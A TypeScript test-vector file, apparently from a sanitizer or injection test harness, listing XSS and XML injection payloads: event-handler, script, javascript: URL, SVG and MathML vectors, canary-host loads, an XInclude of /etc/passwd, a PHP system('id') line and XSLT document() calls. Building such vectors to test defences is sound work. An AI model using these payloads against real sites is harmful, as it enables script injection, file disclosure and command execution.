import { CANARY, EVENTS, type Vector } from './vectors/index.ts'
import { vectorsOf } from './vectors/vector.ts'

const HTML = 'xmlns:h="http://www.w3.org/1999/xhtml"'
const SVG = 'xmlns:s="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const MATH = 'xmlns:m="http://www.w3.org/1998/Math/MathML" xmlns:xlink="http://www.w3.org/1999/xlink"'
const THERE = `http://${CANARY}/{n}`

/** Well-formed elements of other languages, comments and instructions, which stand in a file as themselves instead of as text. */
export const FOREIGN_ELEMENTS: readonly Vector[] = vectorsOf('elements of other languages', [
  ...EVENTS.flatMap(event => [
    `<h:img ${HTML} src="x" on${event}="fire({n})"/>`,
    `<img src="x" on${event}="fire({n})"/>`,
    `<s:svg ${SVG} on${event}="fire({n})"><s:text>x</s:text></s:svg>`,
    `<m:math ${MATH} on${event}="fire({n})"><m:mi on${event}="fire({n})">x</m:mi></m:math>`,
  ]),
  ...['h:', ''].flatMap(prefix => [
    `<${prefix}script ${HTML}>fire({n})</${prefix}script>`,
    `<${prefix}script ${HTML} src="${THERE}"/>`,
    `<${prefix}a ${HTML} href="javascript:fire({n})">x</${prefix}a>`,
    `<${prefix}iframe ${HTML} srcdoc="&lt;script&gt;parent.fire({n})&lt;/script&gt;"/>`,
    `<${prefix}iframe ${HTML} src="javascript:parent.fire({n})"/>`,
    `<${prefix}object ${HTML} data="${THERE}"/>`,
    `<${prefix}embed ${HTML} src="${THERE}"/>`,
    `<${prefix}base ${HTML} href="${THERE}"/>`,
    `<${prefix}meta ${HTML} http-equiv="refresh" content="0;url=${THERE}"/>`,
    `<${prefix}link ${HTML} rel="stylesheet" href="${THERE}"/>`,
    `<${prefix}style ${HTML}>*{background:url(${THERE})}</${prefix}style>`,
    `<${prefix}form ${HTML} action="${THERE}"><${prefix}button formaction="${THERE}">x</${prefix}button></${prefix}form>`,
    `<${prefix}img ${HTML} src="${THERE}" srcset="${THERE} 1x" style="background:url(${THERE})"/>`,
    `<${prefix}video ${HTML} src="${THERE}" poster="${THERE}"/>`,
    `<${prefix}template ${HTML} shadowrootmode="open"><${prefix}script>fire({n})</${prefix}script></${prefix}template>`,
    `<${prefix}noscript ${HTML}><${prefix}p title="&lt;/noscript&gt;&lt;script&gt;fire({n})&lt;/script&gt;">x</${prefix}p></${prefix}noscript>`,
  ]),
  `<s:svg ${SVG}><s:script>fire({n})</s:script></s:svg>`,
  `<s:svg ${SVG}><s:use xlink:href="${THERE}#x"/></s:svg>`,
  `<s:svg ${SVG}><s:image xlink:href="${THERE}"/></s:svg>`,
  `<s:svg ${SVG}><s:a xlink:href="javascript:fire({n})"><s:text>x</s:text></s:a></s:svg>`,
  `<s:svg ${SVG}><s:a><s:set attributeName="href" to="javascript:fire({n})"/><s:text>x</s:text></s:a></s:svg>`,
  `<s:svg ${SVG}><s:animate attributeName="href" values="javascript:fire({n})" onbegin="fire({n})"/></s:svg>`,
  `<s:svg ${SVG}><s:foreignObject><h:img ${HTML} src="x" onerror="fire({n})"/></s:foreignObject></s:svg>`,
  `<m:math ${MATH}><m:mi xlink:href="javascript:fire({n})" href="javascript:fire({n})">x</m:mi></m:math>`,
  `<m:math ${MATH} href="javascript:fire({n})"><m:mrow><m:mi>x</m:mi></m:mrow></m:math>`,
  `<m:math ${MATH}><m:maction actiontype="statusline#fire({n})" xlink:href="javascript:fire({n})"><m:mi>x</m:mi></m:maction></m:math>`,
  ...['text/html', 'application/xhtml+xml', 'SVG1.1'].map(
    encoding =>
      `<m:math ${MATH}><m:semantics><m:mi>x</m:mi><m:annotation-xml encoding="${encoding}"><h:img ${HTML} src="x" onerror="fire({n})"/></m:annotation-xml></m:semantics></m:math>`,
  ),
  `<m:math ${MATH}><m:mtext><h:script ${HTML}>fire({n})</h:script></m:mtext></m:math>`,
  `<m:math ${MATH}><m:mglyph src="${THERE}" alt="{n}"/></m:math>`,
  `<m:math ${MATH}><m:mstyle style="background:url(${THERE})" mathbackground="url(${THERE})" mathcolor="red;x:{n}" class="{n}"><m:mi>x</m:mi></m:mstyle></m:math>`,
  `<m:math ${MATH}><m:mtable width="1;x:url(${THERE})" columnwidth="expression(fire({n}))"><m:mtr><m:mtd>x</m:mtd></m:mtr></m:mtable></m:math>`,
  `<?xml-stylesheet type="text/xsl" href="${THERE}"?>`,
  `<?php system("id {n}") ?>`,
  `<!-- {n} --><x/><!-- <script>fire({n})</script> -->`,
  '<![CDATA[<script>fire({n})</script>]]>',
  '<![CDATA[</script><img src=x onerror=fire({n})>]]>',
  '<x><![CDATA[<img src=x onerror=fire({n})]]>&gt;</x>',
  `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd?{n}"/>`,
  `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${THERE}"/>`,
  `<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="document('${THERE}')"/>`,
  `<xsl:script xmlns:xsl="http://www.w3.org/TR/WD-xsl">fire({n})</xsl:script>`,
  `<x xml:base="javascript:fire({n})/"><ext-link xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="x">x</ext-link></x>`,
  `<handler xmlns="http://www.w3.org/2001/xml-events" event="load">fire({n})</handler>`,
])
